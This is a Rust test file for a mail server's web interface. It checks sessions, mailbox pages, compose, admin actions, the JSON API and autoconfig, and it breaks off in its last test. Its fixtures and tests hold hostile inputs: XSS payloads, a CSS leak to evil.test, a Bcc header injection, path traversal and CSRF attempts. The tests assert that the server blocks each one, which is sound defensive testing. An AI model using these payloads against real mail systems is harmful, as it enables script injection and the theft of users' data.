//! The web interface over TCP (issue 17): login and sessions, the
//! mailbox pages, the path picture, live transcripts, compose, every
//! administration action, the JSON API, autoconfig/Autodiscover — and the
//! attacks a web application that holds mail must withstand (script in
//! headers and bodies, CSRF, session fixation, other users' ids, login
//! brute force). Chromium drives the same pages in e2e_browser.rs.

mod common;

use common::http::{Browser, request};
use common::*;

const WEB: &str = "[transcripts]\nenabled = true\n[web]\nadmins = [\"alice@example.test\"]\n";

fn server() -> Server {
    Server::start(WEB)
}

fn web(s: &Server) -> std::net::SocketAddr {
    s.addr("http")
}

/// A message with everything a page shows: encoded words, a hop chain,
/// an HTML part full of attacks, an attachment with a hostile name.
fn hostile_message() -> Vec<u8> {
    concat!(
        "Received: from mx.example.test (mx.example.test [192.0.2.10])\r\n",
        "\tby mail.test with ESMTPS id abc; Sat, 5 Dec 2026 10:00:05 +0000\r\n",
        "Received: from laptop (<script>alert('hop')</script> [198.51.100.7])\r\n",
        "\tby mx.example.test with ESMTP id def; Sat, 5 Dec 2026 10:00:00 +0000\r\n",
        "From: \"<img src=x onerror=alert('name')>\" <mallory@example.test>\r\n",
        "To: alice@example.test\r\n",
        "Subject: <script>alert('subject')</script> =?utf-8?q?Gr=C3=BC=C3=9Fe?=\r\n",
        "Date: Sat, 5 Dec 2026 10:00:00 +0000\r\n",
        "Message-ID: <hostile@example.test>\r\n",
        "MIME-Version: 1.0\r\n",
        "Content-Type: multipart/mixed; boundary=\"b1\"\r\n",
        "\r\n",
        "--b1\r\n",
        "Content-Type: text/html; charset=utf-8\r\n",
        "\r\n",
        "<p>Hello <b>Alice</b></p><script>alert('body')</script>",
        "<img src=x onerror=alert('img')><svg onload=alert('svg')></svg>",
        "<a href=\"javascript:alert('link')\">click</a>",
        "<style>input[value^=a]{background:url(https://evil.test/leak)}</style>",
        "<img src=\"https://tracker.test/pixel.gif\">\r\n",
        "--b1\r\n",
        "Content-Type: text/html; name=\"<svg onload=alert('file')>.html\"\r\n",
        "Content-Disposition: attachment; filename=\"<svg onload=alert('file')>.html\"\r\n",
        "\r\n",
        "<script>alert('attachment')</script>\r\n",
        "--b1--\r\n",
    )
    .as_bytes()
    .to_vec()
}

/// The id of alice's INBOX and the UID of its newest message.
fn inbox_of(b: &Browser) -> (i64, u64) {
    let boxes = b.get("/api/mailboxes").json();
    let inbox = boxes
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["name"] == "INBOX")
        .unwrap()["id"]
        .as_i64()
        .unwrap();
    let list = b.get(&format!("/api/mailboxes/{inbox}/messages")).json();
    let uid = list["items"][0]["uid"].as_u64().unwrap_or(0);
    (inbox, uid)
}

#[test]
fn login_sets_a_strict_session_cookie_and_pages_need_it() {
    let s = server();
    let addr = web(&s);
    let r = request(addr, "GET", "/mail", &[], b"");
    assert_eq!(r.status, 303);
    assert_eq!(r.header("location"), Some("/login"));
    let api = request(addr, "GET", "/api/mailboxes", &[], b"");
    assert_eq!(api.status, 401, "the API answers 401, not a redirect");

    let mut b = Browser::new(addr);
    let bad = b.login("alice@example.test", "wrong");
    assert_eq!(bad.status, 401);
    assert!(bad.header("set-cookie").is_none());
    assert!(bad.text().contains("wrong address or password"));

    let ok = b.login("alice@example.test", "alice-pw");
    assert_eq!(ok.status, 303, "{}", ok.text());
    let cookie = ok.header("set-cookie").unwrap();
    assert!(cookie.contains("HttpOnly"), "{cookie}");
    assert!(cookie.contains("SameSite=Strict"), "{cookie}");
    assert!(
        !cookie.contains("Secure"),
        "plain HTTP on loopback: {cookie}"
    );
    let token = b.cookie.clone().unwrap();
    assert!(token.len() >= 43, "256-bit token: {token}");

    let mail = b.get("/mail");
    assert_eq!(mail.status, 303);
    let list = b.get(mail.header("location").unwrap());
    assert_eq!(list.status, 200);
    assert!(list.text().contains("INBOX"));

    // Logout ends the session on the server, not just in the browser.
    let out = b.post("/logout", &[]);
    assert_eq!(out.status, 303);
    assert!(out.header("set-cookie").unwrap().contains("Max-Age=0"));
    assert_eq!(b.get("/api/mailboxes").status, 401);
}

#[test]
fn every_response_carries_the_security_headers() {
    let s = server();
    let b = Browser::logged_in(web(&s), "alice@example.test", "alice-pw");
    for path in [
        "/login",
        "/mail",
        "/api/mailboxes",
        "/no/such/page",
        "/static/app.js",
        "/sessions",
    ] {
        let r = b.get(path);
        let csp = r
            .header("content-security-policy")
            .unwrap_or_else(|| panic!("{path}: no CSP"));
        assert!(csp.contains("default-src 'none'"), "{path}: {csp}");
        assert!(csp.contains("frame-ancestors"), "{path}: {csp}");
        assert!(
            !csp.contains("unsafe-inline") || path.contains("body"),
            "{path}: {csp}"
        );
        assert_eq!(
            r.header("x-content-type-options"),
            Some("nosniff"),
            "{path}"
        );
        assert!(r.header("x-frame-options").is_some(), "{path}");
        assert_eq!(r.header("referrer-policy"), Some("same-origin"), "{path}");
    }
    assert_eq!(b.get("/mail/1").header("cache-control"), Some("no-store"));
}

#[test]
fn a_message_is_shown_escaped_sanitised_and_framed() {
    let s = server();
    s.deliver(
        "mallory@example.test",
        &["alice@example.test"],
        &hostile_message(),
    )
    .success();
    let b = Browser::logged_in(web(&s), "alice@example.test", "alice-pw");
    let (inbox, uid) = inbox_of(&b);

    // The list: subject decoded and escaped.
    let list = b.get(&format!("/mail/{inbox}")).text();
    assert!(list.contains("Grüße"), "{list}");
    assert!(!list.contains("<script>alert"), "{list}");
    assert!(!list.contains("<img src=x"), "{list}");
    assert!(list.contains("&#60;script&#62;") || list.contains("&lt;script&gt;"));

    // The message page: no markup of the message as markup.
    let page = b.get(&format!("/mail/{inbox}/{uid}"));
    assert_eq!(page.status, 200);
    let html = page.text();
    for bad in ["<script>alert", "<img src=x", "<svg onload"] {
        assert!(!html.contains(bad), "{bad} in the page: {html}");
    }
    assert!(html.contains("sandbox=\"allow-popups allow-popups-to-escape-sandbox\""));
    assert!(html.contains("remote images are blocked"));

    // The HTML body, sanitised, in a frame under its own policy.
    let body = b.get(&format!("/mail/{inbox}/{uid}/body"));
    assert_eq!(body.status, 200);
    let csp = body.header("content-security-policy").unwrap();
    assert!(csp.contains("sandbox"), "{csp}");
    assert!(csp.contains("default-src 'none'"), "{csp}");
    assert!(!csp.contains("script-src"), "{csp}");
    assert_eq!(body.header("x-frame-options"), Some("SAMEORIGIN"));
    let t = body.text().to_lowercase();
    assert!(t.contains("hello <b>alice</b>"), "{t}");
    for bad in [
        "<script",
        "onerror",
        "onload",
        "javascript:",
        "evil.test",
        "tracker.test",
        "<style",
    ] {
        assert!(!t.contains(bad), "{bad} left in the frame: {t}");
    }
    // Remote images only when asked for.
    let remote = b.get(&format!("/mail/{inbox}/{uid}/body?remote=1"));
    assert!(remote.text().contains("tracker.test"));
    assert!(
        remote
            .header("content-security-policy")
            .unwrap()
            .contains("https:")
    );

    // The attachment: always a download, its name cannot break out.
    let part = b.get(&format!("/mail/{inbox}/{uid}/part/0"));
    assert_eq!(part.status, 200);
    assert_eq!(
        part.header("content-type"),
        Some("application/octet-stream")
    );
    let cd = part.header("content-disposition").unwrap();
    assert!(cd.starts_with("attachment;"), "{cd}");
    assert!(!cd.contains('<') && !cd.contains('>'), "{cd}");
    assert!(b.get(&format!("/mail/{inbox}/{uid}/part/9")).status == 404);

    // The raw source, as text that no browser runs.
    let raw = b.get(&format!("/mail/{inbox}/{uid}/raw"));
    assert!(
        raw.header("content-type")
            .unwrap()
            .starts_with("text/plain")
    );
    assert!(
        raw.header("content-security-policy")
            .unwrap()
            .contains("sandbox")
    );
    assert!(raw.text().contains("Message-ID: <hostile@example.test>"));

    // Opened means seen.
    let m = b.get(&format!("/api/messages/{inbox}/{uid}")).json();
    assert_eq!(m["seen"], true);
    assert_eq!(m["attachments"][0]["content_type"], "text/html");
}

#[test]
fn the_path_picture_draws_hops_tls_and_the_boundary() {
    let s = server();
    s.deliver(
        "mallory@example.test",
        &["alice@example.test"],
        &hostile_message(),
    )
    .success();
    let b = Browser::logged_in(web(&s), "alice@example.test", "alice-pw");
    let (inbox, uid) = inbox_of(&b);
    let page = b.get(&format!("/mail/{inbox}/{uid}/path"));
    assert_eq!(page.status, 200, "{}", page.text());
    let html = page.text();
    let svg_start = html.find("<svg").expect("a picture");
    let svg = &html[svg_start..html.find("</svg>").unwrap()];
    // The origin and two hops: three boxes.
    assert_eq!(svg.matches("class=\"hop\"").count(), 3, "{svg}");
    assert!(svg.contains("TLS"), "{svg}");
    assert!(
        svg.contains("no TLS"),
        "the laptop's hop was plain ESMTP: {svg}"
    );
    assert!(!svg.contains("<script"), "{svg}");
    assert!(html.contains("id=\"report\""));
    // The API gives the analysis itself.
    let a = b.get(&format!("/api/messages/{inbox}/{uid}/path")).json();
    assert_eq!(a["hops"].as_array().unwrap().len(), 2, "{a}");
}

#[test]
fn flags_move_and_delete_from_the_pages() {
    let s = server();
    s.deliver(
        "x@example.test",
        &["alice@example.test"],
        &message("one", "1"),
    )
    .success();
    let b = Browser::logged_in(web(&s), "alice@example.test", "alice-pw");
    let (inbox, uid) = inbox_of(&b);
    let r = b.post(&format!("/mail/{inbox}/{uid}/flags"), &[("action", "flag")]);
    assert_eq!(r.status, 303, "{}", r.text());
    let m = b.get(&format!("/api/messages/{inbox}/{uid}")).json();
    assert_eq!(m["flagged"], true);
    let archive = m["targets"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["name"] == "Archive")
        .unwrap()["id"]
        .as_i64()
        .unwrap();
    let r = b.post(
        &format!("/mail/{inbox}/{uid}/move"),
        &[("to", &archive.to_string())],
    );
    assert_eq!(r.status, 303);
    assert_eq!(b.get(&format!("/mail/{inbox}/{uid}")).status, 404);
    let moved = b.get(&format!("/api/mailboxes/{archive}/messages")).json();
    assert_eq!(moved["total"], 1);
    let new_uid = moved["items"][0]["uid"].as_u64().unwrap();
    // Delete: into the Trash, then out of the Trash for good.
    let r = b.post(&format!("/mail/{archive}/{new_uid}/delete"), &[]);
    assert_eq!(r.status, 303);
    let boxes = b.get("/api/mailboxes").json();
    let trash = boxes
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["name"] == "Trash")
        .unwrap();
    assert_eq!(trash["messages"], 1);
    let tid = trash["id"].as_i64().unwrap();
    let t_uid = b.get(&format!("/api/mailboxes/{tid}/messages")).json()["items"][0]["uid"]
        .as_u64()
        .unwrap();
    assert_eq!(
        b.post(&format!("/mail/{tid}/{t_uid}/delete"), &[]).status,
        303
    );
    assert_eq!(
        b.get(&format!("/api/mailboxes/{tid}/messages")).json()["total"],
        0
    );
    // IMAP sees what the web did.
    let mut imap = Imap::logged_in(&s, "alice");
    let st = imap.ok("s1", "STATUS Trash (MESSAGES)");
    assert!(st.iter().any(|l| l.contains("MESSAGES 0")), "{st:?}");
}

#[test]
fn list_pages_sort_and_search_with_the_index() {
    let s = server();
    for i in 0..7 {
        let body = if i == 3 {
            "the word zebrafish is here"
        } else {
            "nothing"
        };
        s.deliver(
            "x@example.test",
            &["alice@example.test"],
            &message(&format!("message {i}"), body),
        )
        .success();
    }
    s.admin(&["config", "check"]).success();
    let b = Browser::logged_in(web(&s), "alice@example.test", "alice-pw");
    let (inbox, _) = inbox_of(&b);
    let all = b.get(&format!("/api/mailboxes/{inbox}/messages")).json();
    assert_eq!(all["total"], 7, "{all}");
    let hit = b
        .get(&format!("/api/mailboxes/{inbox}/messages?q=zebrafish"))
        .json();
    assert_eq!(hit["total"], 1, "{hit}");
    assert_eq!(hit["items"][0]["subject"], "message 3");
    let by_subject = b
        .get(&format!("/api/mailboxes/{inbox}/messages?sort=subject"))
        .json();
    let subjects: Vec<&str> = by_subject["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["subject"].as_str().unwrap())
        .collect();
    let mut sorted = subjects.clone();
    sorted.sort();
    assert_eq!(subjects, sorted);
    // The page: paged links keep the search.
    let page = b.get(&format!("/mail/{inbox}?q=zebra+fish")).text();
    assert!(page.contains("0 message(s)"), "{page}");
}

#[test]
fn another_users_objects_are_not_found() {
    let s = server();
    s.deliver(
        "x@example.test",
        &["alice@example.test"],
        &message("private", "secret"),
    )
    .success();
    let alice = Browser::logged_in(web(&s), "alice@example.test", "alice-pw");
    let (inbox, uid) = inbox_of(&alice);
    let bob = Browser::logged_in(web(&s), "bob@example.test", "bob-pw");
    for path in [
        format!("/mail/{inbox}"),
        format!("/mail/{inbox}/{uid}"),
        format!("/mail/{inbox}/{uid}/raw"),
        format!("/mail/{inbox}/{uid}/body"),
        format!("/mail/{inbox}/{uid}/part/0"),
        format!("/mail/{inbox}/{uid}/path"),
        format!("/api/mailboxes/{inbox}/messages"),
        format!("/api/messages/{inbox}/{uid}"),
        "/admin/users".to_string(),
        "/api/admin/users".to_string(),
    ] {
        let r = bob.get(&path);
        assert_eq!(r.status, 404, "bob got {path}: {}", r.text());
        assert!(!r.text().contains("secret"));
    }
    for path in [
        format!("/mail/{inbox}/{uid}/flags"),
        format!("/mail/{inbox}/{uid}/delete"),
    ] {
        assert_eq!(bob.post(&path, &[("action", "seen")]).status, 404, "{path}");
    }
    // Bob's own mailbox ids are guessed in vain too: a move into alice's
    // mailbox from his.
    let bob_inbox = inbox_of(&bob).0;
    s.deliver(
        "x@example.test",
        &["bob@example.test"],
        &message("bob's", "x"),
    )
    .success();
    let buid = bob
        .get(&format!("/api/mailboxes/{bob_inbox}/messages"))
        .json()["items"][0]["uid"]
        .as_u64()
        .unwrap();
    let r = bob.post(
        &format!("/mail/{bob_inbox}/{buid}/move"),
        &[("to", &inbox.to_string())],
    );
    assert_eq!(r.status, 404);
    let list = alice
        .get(&format!("/api/mailboxes/{inbox}/messages"))
        .json();
    assert_eq!(list["total"], 1, "nothing arrived in alice's INBOX");
}

#[test]
fn state_changes_need_the_csrf_token_and_this_origin() {
    let s = server();
    s.deliver(
        "x@example.test",
        &["alice@example.test"],
        &message("one", "1"),
    )
    .success();
    let b = Browser::logged_in(web(&s), "alice@example.test", "alice-pw");
    let (inbox, uid) = inbox_of(&b);
    let path = format!("/mail/{inbox}/{uid}/flags");
    // No token, a wrong token, another origin, a cross-site fetch.
    assert_eq!(b.post_raw(&path, &[("action", "flag")], &[]).status, 403);
    assert_eq!(
        b.post_raw(&path, &[("action", "flag"), ("csrf", "guess")], &[])
            .status,
        403
    );
    let t = b.csrf.clone().unwrap();
    let with = [("action", "flag"), ("csrf", t.as_str())];
    assert_eq!(
        b.post_raw(&path, &with, &[("Origin", "http://evil.test")])
            .status,
        403
    );
    assert_eq!(
        b.post_raw(&path, &with, &[("Sec-Fetch-Site", "cross-site")])
            .status,
        403
    );
    let m = b.get(&format!("/api/messages/{inbox}/{uid}")).json();
    assert_eq!(m["flagged"], false, "none of those changed anything");
    // The JSON API: the header, not a form field.
    let api = format!("/api/messages/{inbox}/{uid}/flags");
    let mut nob = Browser::new(b.addr);
    nob.cookie = b.cookie.clone();
    assert_eq!(
        nob.api_post(&api, serde_json::json!({"action": "flag"}))
            .status,
        403
    );
    assert_eq!(
        b.api_post(&api, serde_json::json!({"action": "flag"}))
            .status,
        200
    );
    // The right token from this origin works.
    let host = format!("http://{}", b.addr);
    assert_eq!(
        b.post_raw(
            &path,
            &[("action", "unflag"), ("csrf", t.as_str())],
            &[("Origin", &host)]
        )
        .status,
        303
    );
    // A login form posted from another site is refused (login CSRF).
    let r = b.post_raw(
        "/login",
        &[("user", "bob@example.test"), ("password", "bob-pw")],
        &[("Origin", "http://evil.test")],
    );
    assert_eq!(r.status, 403);
}

#[test]
fn a_planted_session_id_is_never_adopted() {
    let s = server();
    let addr = web(&s);
    let planted = "attacker-chosen-token-aaaaaaaaaaaaaaaaaaaaaaaaaaa";
    let r = request(
        addr,
        "POST",
        "/login",
        &[
            ("Content-Type", "application/x-www-form-urlencoded"),
            ("Cookie", &format!("postamt_session={planted}")),
        ],
        b"user=alice%40example.test&password=alice-pw",
    );
    assert_eq!(r.status, 303);
    let set = r.header("set-cookie").unwrap();
    assert!(!set.contains(planted), "{set}");
    let mut attacker = Browser::new(addr);
    attacker.cookie = Some(planted.into());
    assert_eq!(attacker.get("/api/me").status, 401);
}

#[test]
fn login_guessing_is_throttled_like_imap() {
    let s = Server::start(&format!("{WEB}[auth]\nmax_failures = 3\n"));
    let addr = web(&s);
    let mut b = Browser::new(addr);
    let start = std::time::Instant::now();
    for _ in 0..3 {
        assert_eq!(b.login("alice@example.test", "guess").status, 401);
    }
    // The failure delay was waited out each time (50 ms in the tests).
    assert!(start.elapsed() >= std::time::Duration::from_millis(150));
    // Now even the right password is refused from this address...
    let r = b.login("alice@example.test", "alice-pw");
    assert_eq!(r.status, 429, "{}", r.text());
    // ...and IMAP from the same address shares the count.
    let mut imap = Imap::connect(s.addr("imap"));
    let (_, done) = imap.cmd("a", "LOGIN alice@example.test alice-pw");
    assert!(done.starts_with("a NO"), "{done}");
}

#[test]
fn a_transcript_grows_live_while_an_smtp_session_is_typed() {
    let s = server();
    let b = Browser::logged_in(web(&s), "alice@example.test", "alice-pw");
    let mut c = smtp(&s, "smtp");
    c.smtp("EHLO typing.example", "250");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    let id = loop {
        let list = b.get("/api/sessions").json();
        let found = list
            .as_array()
            .unwrap()
            .iter()
            .find(|x| x["protocol"] == "smtp" && x["live"] == true);
        if let Some(x) = found {
            break x["id"].as_str().unwrap().to_string();
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no live session: {list}"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    };
    let first = b.get(&format!("/api/sessions/{id}?from=0")).json();
    let n = first["rows"].as_array().unwrap().len();
    assert!(n >= 2, "{first}");
    assert_eq!(first["live"], true);
    c.smtp("MAIL FROM:<x@elsewhere.test>", "250");
    // Only the new rows, explained, with the session state.
    let more = b.get(&format!("/api/sessions/{id}?from={n}")).json();
    let rows = more["rows"].as_array().unwrap();
    assert!(
        rows.iter()
            .any(|r| r["client"].as_str().unwrap().starts_with("MAIL FROM")),
        "{more}"
    );
    assert!(
        rows.iter()
            .any(|r| r["meaning"].as_str().unwrap().contains("waiting for RCPT")),
        "{more}"
    );
    let de = b.get(&format!("/api/sessions/{id}?from=0&lang=de")).json();
    assert!(de["rows"].to_string().contains("Server"), "{de}");
    c.smtp("QUIT", "221");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let v = b.get(&format!("/api/sessions/{id}")).json();
        if v["live"] == false {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "still live: {v}");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    // The page of the session: the three columns.
    let page = b.get(&format!("/sessions/{id}")).text();
    assert!(page.contains("what it means"));
    assert!(page.contains("EHLO typing.example"));
}

#[test]
fn users_see_their_own_sessions_and_administrators_all() {
    let s = server();
    let mut bob_imap = Imap::logged_in(&s, "bob");
    bob_imap.ok("n", "NOOP");
    let mut alice_pop = pop3(&s);
    alice_pop.login("alice@example.test", "alice-pw");
    let alice = Browser::logged_in(web(&s), "alice@example.test", "alice-pw");
    let bob = Browser::logged_in(web(&s), "bob@example.test", "bob-pw");
    let all = alice.get("/api/sessions").json();
    let protos = |v: &serde_json::Value| -> Vec<String> {
        v.as_array()
            .unwrap()
            .iter()
            .map(|x| format!("{}:{}", x["protocol"].as_str().unwrap(), x["users"]))
            .collect()
    };
    let a = protos(&all);
    assert!(
        a.iter()
            .any(|p| p.starts_with("imap:") && p.contains("bob@")),
        "{a:?}"
    );
    assert!(
        a.iter()
            .any(|p| p.starts_with("pop3:") && p.contains("alice@")),
        "{a:?}"
    );
    let mine = bob.get("/api/sessions").json();
    let m = protos(&mine);
    assert!(m.iter().all(|p| p.contains("bob@")), "{m:?}");
    assert!(m.iter().any(|p| p.starts_with("imap:")), "{m:?}");
    // Alice's POP3 session by id: 404 for bob.
    let alice_id = all
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["protocol"] == "pop3")
        .unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(bob.get(&format!("/api/sessions/{alice_id}")).status, 404);
    assert_eq!(bob.get(&format!("/sessions/{alice_id}")).status, 404);
    assert_eq!(bob.get("/api/sessions/..%2f..%2fpostamt.toml").status, 404);
    let mut alice_pop = alice_pop;
    alice_pop.cmd("QUIT", "+OK");
}

#[test]
fn compose_sends_through_submission_and_shows_the_dialogue() {
    let s = server();
    let b = Browser::logged_in(web(&s), "alice@example.test", "alice-pw");
    let r = b.post(
        "/compose",
        &[
            ("to", "bob@example.test"),
            ("subject", "Hallo aus dem Web\r\nBcc: evil@example.test"),
            ("body", "Hi Bob,\n.\nthis line follows a lone dot.\n"),
        ],
    );
    assert_eq!(r.status, 200, "{}", r.text());
    let page = r.text();
    assert!(page.contains("Sent: the server answered 250"), "{page}");
    assert!(
        page.contains("MAIL FROM:&#60;alice@example.test&#62;")
            || page.contains("MAIL FROM:&lt;alice@example.test&gt;"),
        "{page}"
    );
    assert!(page.contains("what it means"));
    let got = maildrop(&s, "bob@example.test", "bob-pw");
    assert_eq!(got.len(), 1);
    let m = &got[0];
    assert!(
        m.contains("Subject: Hallo aus dem Web  Bcc: evil@example.test")
            || m.contains("Hallo aus dem Web"),
        "{m}"
    );
    assert!(!m.contains("\r\nBcc:"), "no header injection: {m}");
    assert!(
        m.contains("\r\n.\r\nthis line follows"),
        "dot-stuffing undone: {m}"
    );
    // The session is alice's: her list has it, as submission.
    let sessions = b.get("/api/sessions").json();
    assert!(sessions.to_string().contains("submission"), "{sessions}");
    // A recipient the server refuses: not sent, and said so.
    let refused = b.api_post(
        "/api/compose",
        serde_json::json!({"to": "nobody@example.test", "subject": "x", "body": "y"}),
    );
    assert_eq!(refused.status, 422, "{}", refused.text());
    assert_eq!(refused.json()["accepted"], false);
    // A bad address is the form's error, not a session.
    let bad = b.post("/compose", &[("to", "not an address"), ("body", "x")]);
    assert_eq!(bad.status, 400);
}

#[test]
fn the_administration_does_every_action() {
    let s = server();
    let b = Browser::logged_in(web(&s), "alice@example.test", "alice-pw");
    // Users.
    assert_eq!(
        b.post(
            "/admin/users",
            &[
                ("address", "carol@example.test"),
                ("password", "carol-password"),
                ("quota", "1000000")
            ]
        )
        .status,
        303
    );
    let users = b.get("/api/admin/users").json();
    let carol = users
        .as_array()
        .unwrap()
        .iter()
        .find(|u| u["address"] == "carol@example.test")
        .unwrap()
        .clone();
    assert_eq!(carol["quota"], 1000000);
    assert_eq!(
        b.post(
            "/admin/users",
            &[
                ("address", "dave@elsewhere.test"),
                ("password", "long-password")
            ]
        )
        .status,
        400
    );
    assert_eq!(
        b.post(
            "/admin/users",
            &[("address", "dave@example.test"), ("password", "short")]
        )
        .status,
        400
    );
    let carol_web = Browser::logged_in(b.addr, "carol@example.test", "carol-password");
    assert_eq!(
        b.post(
            "/admin/users/carol@example.test/password",
            &[("password", "new-carol-password")]
        )
        .status,
        303
    );
    assert_eq!(carol_web.get("/api/me").status, 401, "the old login ended");
    Browser::logged_in(b.addr, "carol@example.test", "new-carol-password");
    assert_eq!(
        b.post("/admin/users/carol@example.test/quota", &[("quota", "")])
            .status,
        303
    );
    assert_eq!(
        b.post("/admin/users/carol@example.test/delete", &[]).status,
        303
    );
    assert!(!b.get("/admin/users").text().contains("carol@example.test"));
    assert_eq!(
        b.post("/admin/users/alice@example.test/delete", &[]).status,
        400,
        "not oneself"
    );
    // Domains, with their DNS records.
    assert_eq!(
        b.post("/admin/domains", &[("name", "new.test")]).status,
        303
    );
    assert!(b.get("/admin/domains").text().contains("new.test"));
    assert_eq!(
        b.post("/admin/domains", &[("name", "bad domain")]).status,
        400
    );
    // Aliases.
    assert_eq!(
        b.post(
            "/admin/aliases",
            &[
                ("alias", "info@example.test"),
                ("targets", "alice@example.test, bob@example.test")
            ]
        )
        .status,
        303
    );
    let aliases = b.get("/api/admin/aliases").json();
    assert!(
        aliases.to_string().contains("info@example.test"),
        "{aliases}"
    );
    assert_eq!(
        b.post("/admin/aliases/info@example.test/delete", &[])
            .status,
        303
    );
    assert!(
        !b.get("/api/admin/aliases")
            .text()
            .contains("info@example.test")
    );
    assert_eq!(b.post("/admin/domains/new.test/delete", &[]).status, 303);
    assert!(!b.get("/admin/domains").text().contains("new.test"));
    // The queue: a message for elsewhere stays (the relay is off).
    let mut c = smtp(&s, "submission");
    c.smtp("EHLO x", "250");
    let auth = base64_plain("alice@example.test", "alice-pw");
    c.smtp(&format!("AUTH PLAIN {auth}"), "235");
    c.smtp("MAIL FROM:<alice@example.test>", "250");
    c.smtp("RCPT TO:<someone@remote.test>", "250");
    c.smtp("DATA", "354");
    c.smtp("Subject: queued\r\n\r\nx\r\n.", "250");
    c.smtp("QUIT", "221");
    let q = b.get("/api/admin/queue").json();
    let id = q[0]["id"].as_i64().unwrap();
    assert_eq!(b.post(&format!("/admin/queue/{id}/hold"), &[]).status, 303);
    assert_eq!(b.get("/api/admin/queue").json()[0]["held"], true);
    assert!(b.get("/admin/queue").text().contains("held"));
    assert_eq!(
        b.post(&format!("/admin/queue/{id}/release"), &[]).status,
        303
    );
    assert_eq!(b.get("/api/admin/queue").json()[0]["held"], false);
    assert_eq!(b.post(&format!("/admin/queue/{id}/retry"), &[]).status, 303);
    assert_eq!(b.post(&format!("/admin/queue/{id}/bogus"), &[]).status, 400);
    assert_eq!(
        b.post(&format!("/admin/queue/{id}/delete"), &[]).status,
        303
    );
    assert_eq!(
        b.get("/api/admin/queue").json().as_array().unwrap().len(),
        0
    );
    assert_eq!(
        b.post(&format!("/admin/queue/{id}/delete"), &[]).status,
        404
    );
    // DKIM: a key, with the record to publish.
    let r = b.post(
        "/admin/dkim",
        &[("domain", "example.test"), ("selector", "web1")],
    );
    assert_eq!(r.status, 303, "{}", r.text());
    let keys = b.get("/api/admin/dkim").json();
    assert_eq!(keys[0]["selector"], "web1");
    assert!(keys[0]["record"].as_str().unwrap().starts_with("v=DKIM1"));
    assert_eq!(
        b.post("/admin/dkim", &[("domain", "elsewhere.test")])
            .status,
        400
    );
    // Listeners and counters.
    let st = b.get("/api/admin/status").json();
    assert!(st["listeners"].to_string().contains("imaps"), "{st}");
    assert!(st["counters"].to_string().contains("web logins"), "{st}");
    assert!(b.get("/admin/status").text().contains("Listeners"));
}

fn base64_plain(user: &str, pass: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(format!("\0{user}\0{pass}"))
}

#[test]
fn domain_check_shows_the_records_to_publish() {
    // A DNS server of the test's own with the MX only.
    if !python_ready() {
        return;
    }
    let dns = Dns::start(serde_json::json!({
        "example.test.": {"MX": [[10, "mail.test."]]}
    }));
    let s = Server::start(&format!(
        "{WEB}[dns]\nnameservers = [\"127.0.0.1:{}\"]\ntimeout = 2\n",
        dns.port()
    ));
    let b = Browser::logged_in(web(&s), "alice@example.test", "alice-pw");
    let page = b.get("/admin/domains/example.test/check");
    assert_eq!(page.status, 200, "{}", page.text());
    let records = b.get("/api/admin/domains/example.test/check").json();
    let mx = records
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["what"] == "MX")
        .unwrap();
    assert_eq!(mx["ok"], true, "{records}");
    let spf = records
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["what"] == "SPF")
        .unwrap();
    assert_eq!(spf["ok"], false, "{records}");
    assert!(page.text().contains("missing or wrong"));
    assert_eq!(b.get("/admin/domains/unknown.test/check").status, 404);
}

#[test]
fn autoconfig_and_autodiscover_describe_the_listeners() {
    let s = server();
    let addr = web(&s);
    let r = request(
        addr,
        "GET",
        "/.well-known/autoconfig/mail/config-v1.1.xml?emailaddress=alice%40example.test",
        &[],
        b"",
    );
    assert_eq!(r.status, 200);
    assert!(r.header("content-type").unwrap().contains("xml"));
    let x = r.text();
    let imaps = s.addr("imaps").port();
    let submission = s.addr("submission").port();
    assert!(x.contains(&format!("<port>{imaps}</port>")), "{x}");
    assert!(x.contains(&format!("<port>{submission}</port>")), "{x}");
    assert!(x.contains("<hostname>mail.test</hostname>"));
    assert!(x.contains("<domain>example.test</domain>"));
    // Thunderbird's other place for it, and the Host form.
    let r2 = request(
        addr,
        "GET",
        "/mail/config-v1.1.xml",
        &[("Host", "autoconfig.example.test")],
        b"",
    );
    assert_eq!(r2.status, 200, "{}", r2.text());
    // Not ours: nothing.
    let r3 = request(
        addr,
        "GET",
        "/mail/config-v1.1.xml?emailaddress=someone%40gmail.example",
        &[],
        b"",
    );
    assert_eq!(r3.status, 404);
    // Outlook's Autodiscover.
    let req = "<?xml version=\"1.0\" encoding=\"utf-8\"?><Autodiscover xmlns=\"http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006\"><Request><EMailAddress>bob@example.test</EMailAddress><AcceptableResponseSchema>http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema></Request></Autodiscover>";
    let r4 = request(
        addr,
        "POST",
        "/autodiscover/autodiscover.xml",
        &[("Content-Type", "text/xml")],
        req.as_bytes(),
    );
    assert_eq!(r4.status, 200, "{}", r4.text());
    let x4 = r4.text();
    assert!(x4.contains("<LoginName>bob@example.test</LoginName>"));
    assert!(x4.contains(&format!("<Port>{imaps}</Port>")), "{x4}");
    // Checked against the formats the clients document (Mozilla's
    // ConfigFileFormat, Outlook's POX schema) by Python's XML parser.
    if require("python3") {
        for (kind, doc) in [("thunderbird", &x), ("autodiscover", &x4)] {
            let out = run_with_stdin(
                std::process::Command::new("python3")
                    .arg(format!("{CLIENTS}/autoconfig_check.py"))
                    .arg(kind),
                doc.as_bytes(),
            );
            assert!(
                out.stdout.starts_with("ok"),
                "{kind}: {} {}",
                out.stdout,
                out.stderr
            );
            assert!(
                out.stdout.contains(&format!(":{imaps} ")),
                "{kind}: {}",
                out.stdout
            );
        }
    }
}

#[test]
fn plain_http_is_refused_off_loopback() {
    let s = Server::prepare(WEB);
